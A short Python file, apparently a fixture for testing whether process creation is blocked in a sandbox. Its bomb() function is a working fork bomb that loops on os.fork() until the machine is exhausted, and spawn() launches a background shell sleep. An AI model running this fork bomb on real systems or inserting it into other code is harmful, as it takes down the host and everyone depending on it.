"""Fork bomb: forks until the machine falls over, unless process creation is blocked."""
import os


def bomb():
    while True:
        os.fork()


def spawn():
    import subprocess
    return subprocess.run(["sh", "-c", "sleep 30 &"]).returncode
